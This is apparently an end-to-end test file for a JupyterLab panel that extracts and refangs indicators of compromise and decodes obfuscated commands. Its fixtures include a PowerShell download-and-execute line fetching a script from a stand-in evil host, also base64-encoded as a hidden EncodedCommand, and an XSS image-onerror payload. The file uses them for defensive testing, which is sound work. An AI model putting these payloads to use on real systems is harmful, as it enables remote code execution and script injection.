/**
 * The Extract panel in a real JupyterLab, headless Chromium, no mocks: the
 * wasm engine runs in its Web Worker exactly as users get it.
 */
import { expect, test, type IJupyterLabPageFixture } from '@jupyterlab/galata';
import type { Locator, TestInfo } from '@playwright/test';

const PANEL_ID = 'huntkit-extract';

const SAMPLE =
  'Beacon to hxxps://evil[.]example[.]com/a.php from 10.1.2.3, md5 d41d8cd98f00b204e9800998ecf8427e, ' +
  'mail bob[at]contoso.com, CVE-2021-44228, report.docx, version 1.2.3.4.5';

const PS_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')";
const PS_COMMAND = `powershell.exe -nop -w hidden -EncodedCommand ${Buffer.from(PS_SCRIPT, 'utf16le').toString('base64')}`;

const XSS = '<img src=x onerror="window.__pwned=1">.example.com';

/** Opens the Extract panel by clicking its icon in the left sidebar. */
async function openPanel(page: IJupyterLabPageFixture): Promise<Locator> {
  const tab = page.sidebar.getTabLocator(PANEL_ID);
  await expect(tab).toBeVisible();
  if (!(await page.sidebar.isTabOpen(PANEL_ID))) {
    await tab.click();
  }
  const panel = page.locator(`#${PANEL_ID}`);
  await expect(panel).toBeVisible();
  await expect(panel.locator('.jp-huntkit-title')).toHaveText('Extract');
  return panel;
}

/** The IoC table's rows as [type, refanged value] pairs. */
async function tableRows(panel: Locator): Promise<string[][]> {
  return panel
    .locator('tr.jp-huntkit-ioc-row')
    .evaluateAll(rows =>
      rows.map(row => [
        row.querySelector('.jp-huntkit-col-type')?.textContent ?? '',
        row.querySelector('.jp-huntkit-col-refanged')?.textContent ?? ''
      ])
    );
}

async function extractText(panel: Locator, text: string): Promise<void> {
  await panel.locator('textarea.jp-huntkit-input-text').fill(text);
  await panel.getByRole('button', { name: 'Extract', exact: true }).click();
}

async function screenshot(
  page: IJupyterLabPageFixture,
  testInfo: TestInfo,
  name: string
): Promise<void> {
  await page.sidebar.setWidth(620);
  await page.screenshot({ path: testInfo.outputPath(name) });
}

test.describe('Extract panel', () => {
  test('(a) pasted text: refanged IoCs in the table, no false positives', async ({
    page
  }, testInfo) => {
    const panel = await openPanel(page);
    await extractText(panel, SAMPLE);
    await expect(panel.locator('tr.jp-huntkit-ioc-row').first()).toBeVisible();

    const rows = await tableRows(panel);
    const expected = [
      ['url', 'https://evil.example.com/a.php'],
      ['dns', 'evil.example.com'],
      ['ipv4', '10.1.2.3'],
      ['md5_hash', 'd41d8cd98f00b204e9800998ecf8427e'],
      ['email', 'bob@contoso.com'],
      ['cve', 'CVE-2021-44228']
    ];
    for (const row of expected) {
      expect(rows).toContainEqual(row);
    }
    const tableText = await panel.locator('table.jp-huntkit-ioc-table').innerText();
    expect(tableText).not.toContain('report.docx');
    expect(tableText).not.toContain('1.2.3.4.5');
    expect(tableText).not.toContain('1.2.3.4');

    // Per-type chips filter the table.
    await panel.locator('.jp-huntkit-chip[data-type="dns"]').click();
    await expect(panel.locator('tr.jp-huntkit-ioc-row .jp-huntkit-col-type')).toHaveText(
      Array(rows.filter(([type]) => type === 'dns').length).fill('dns')
    );
    await panel.locator('.jp-huntkit-chip', { hasText: 'All' }).click();
    await expect(panel.locator('tr.jp-huntkit-ioc-row')).toHaveCount(rows.length);

    // The text box filters too.
    await panel.locator('input.jp-huntkit-filter').fill('contoso');
    await expect(panel.locator('tr.jp-huntkit-ioc-row .jp-huntkit-col-refanged')).toHaveText([
      'bob@contoso.com',
      'contoso.com'
    ]);
    await panel.locator('input.jp-huntkit-filter').fill('');
    await expect(panel.locator('tr.jp-huntkit-ioc-row')).toHaveCount(rows.length);

    await page.screenshot({ path: testInfo.outputPath('extract-light-narrow.png') });
    await screenshot(page, testInfo, 'extract-light.png');
  });

  test('(b) a server file through "Extract IoCs" in the file browser', async ({
    page,
    tmpPath
  }) => {
    const log =
      '2024-03-04T10:15:02Z TI note: infrastructure at evil-c2[.]example[.]com (203.0.113[.]7)\n' +
      'payload hxxps://cdn.badsite[.]ru/a/b.ps1?id=3 sha256 ' +
      'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n';
    await page.contents.uploadContent(log, 'text', `${tmpPath}/alerts.log`);
    await page.filebrowser.refresh();

    const item = page.locator('.jp-DirListing-item', { hasText: 'alerts.log' });
    await expect(item).toBeVisible();
    await item.click({ button: 'right' });
    await page.getByRole('menuitem', { name: 'Extract IoCs' }).click();

    const panel = page.locator(`#${PANEL_ID}`);
    await expect(panel).toBeVisible();
    await expect(panel.locator('.jp-huntkit-source-name')).toHaveText('alerts.log');
    await expect(panel.locator('tr.jp-huntkit-ioc-row').first()).toBeVisible();
    const rows = await tableRows(panel);
    for (const row of [
      ['dns', 'evil-c2.example.com'],
      ['ipv4', '203.0.113.7'],
      ['url', 'https://cdn.badsite.ru/a/b.ps1?id=3'],
      ['sha256_hash', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855']
    ]) {
      expect(rows).toContainEqual(row);
    }
  });

  test('(b2) a binary server file (base64 from the contents API)', async ({ page, tmpPath }) => {
    const bytes = Buffer.concat([
      Buffer.from([0xff, 0xfe, 0x00, 0x9c]),
      Buffer.from(' beacon 198.51.100.4 and hxxp://malware[.]example[.]net/x \n')
    ]);
    await page.contents.uploadContent(bytes.toString('base64'), 'base64', `${tmpPath}/dump.bin`);
    await page.filebrowser.refresh();
    await page.locator('.jp-DirListing-item', { hasText: 'dump.bin' }).click({ button: 'right' });
    await page.getByRole('menuitem', { name: 'Extract IoCs' }).click();

    const panel = page.locator(`#${PANEL_ID}`);
    await expect(panel.locator('.jp-huntkit-source-name')).toHaveText('dump.bin');
    await expect(panel.locator('tr.jp-huntkit-ioc-row').first()).toBeVisible();
    const rows = await tableRows(panel);
    expect(rows).toContainEqual(['ipv4', '198.51.100.4']);
    expect(rows).toContainEqual(['url', 'http://malware.example.net/x']);
  });

  test('(c) Decode tab: a PowerShell -EncodedCommand is unpacked', async ({ page }) => {
    const panel = await openPanel(page);
    await panel.getByRole('tab', { name: 'Decode' }).click();
    await extractText(panel, PS_COMMAND);

    const annotated = panel.locator('pre.jp-huntkit-annotated');
    await expect(annotated).toContainText(PS_SCRIPT);
    await expect(annotated).toContainText('powershell.exe -nop -w hidden -EncodedCommand');
    const node = panel.locator('.jp-huntkit-decode-node').first();
    await expect(node.locator('.jp-huntkit-badge')).toHaveText('utf16le_base64');
    await expect(node.locator('pre.jp-huntkit-decoded')).toHaveText(PS_SCRIPT);
    await expect(node.locator('.jp-huntkit-hashes dd').first()).toHaveText(/^[0-9a-f]{32}$/);

    // The IoCs tab analyses the same input when shown (the encoded URL is
    // not in the input's own text, so nothing is found there).
    await panel.getByRole('tab', { name: 'IoCs' }).click();
    await expect(panel.locator('.jp-huntkit-iocs .jp-huntkit-empty')).toHaveText('No IoCs found.');
  });

  test('(d) markup in the input is shown as text and never runs', async ({ page }) => {
    await page.evaluate(() => {
      delete (window as { __pwned?: unknown }).__pwned;
    });
    const panel = await openPanel(page);
    await extractText(panel, XSS);
    await expect(panel.locator('.jp-huntkit-summary').first()).toContainText(
      /distinct IoC|No IoCs/
    );
    await panel.getByRole('tab', { name: 'Decode' }).click();
    await expect(panel.locator('pre.jp-huntkit-annotated')).toHaveText(XSS);

    await expect(panel.locator('img')).toHaveCount(0);
    expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
    // Whatever the table shows of it is text too.
    const cells = await panel.locator('tr.jp-huntkit-ioc-row td').allTextContents();
    expect(cells.join(' ')).not.toContain('__pwned=1">');
  });

  test('(e) errors are shown with their kind, never a blank panel', async ({ page }) => {
    const panel = await openPanel(page);
    await page.evaluate(async () => {
      const app = (
        window as unknown as {
          jupyterapp: { commands: { execute(id: string, args: unknown): Promise<unknown> } };
        }
      ).jupyterapp;
      await app.commands.execute('huntkit:extract-file', { path: 'no/such/file.txt' });
    });
    const status = panel.locator('.jp-huntkit-status.jp-huntkit-mod-error');
    await expect(status).toBeVisible();
    await expect(status.locator('.jp-huntkit-error-kind')).toHaveText('contents');
    await expect(status).toContainText('no/such/file.txt');

    // An empty input asks for text instead of doing nothing.
    await panel.getByRole('button', { name: 'Extract', exact: true }).click();
    await expect(panel.locator('.jp-huntkit-status.jp-huntkit-mod-info')).toHaveText(
      'Paste some text or open a file first.'
    );
  });

  test('(f) dark theme', async ({ page }, testInfo) => {
    await page.theme.setDarkTheme();
    const panel = await openPanel(page);
    await extractText(panel, SAMPLE);
    await expect(panel.locator('tr.jp-huntkit-ioc-row').first()).toBeVisible();
    const colors = await panel.evaluate(node => {
      const style = getComputedStyle(node);
      return { color: style.color, background: style.backgroundColor };
    });
    // Light text on a dark background: the panel follows the theme.
    const luminance = (rgb: string) => {
      const [r, g, b] = (rgb.match(/\d+/g) ?? ['0', '0', '0']).map(Number);
      return 0.2126 * r + 0.7152 * g + 0.0722 * b;
    };
    expect(luminance(colors.background)).toBeLessThan(80);
    expect(luminance(colors.color)).toBeGreaterThan(150);
    await screenshot(page, testInfo, 'extract-dark.png');
    await panel.getByRole('tab', { name: 'Decode' }).click();
    await extractText(panel, PS_COMMAND);
    await expect(panel.locator('pre.jp-huntkit-annotated')).toContainText(PS_SCRIPT);
    await screenshot(page, testInfo, 'decode-dark.png');
  });
});
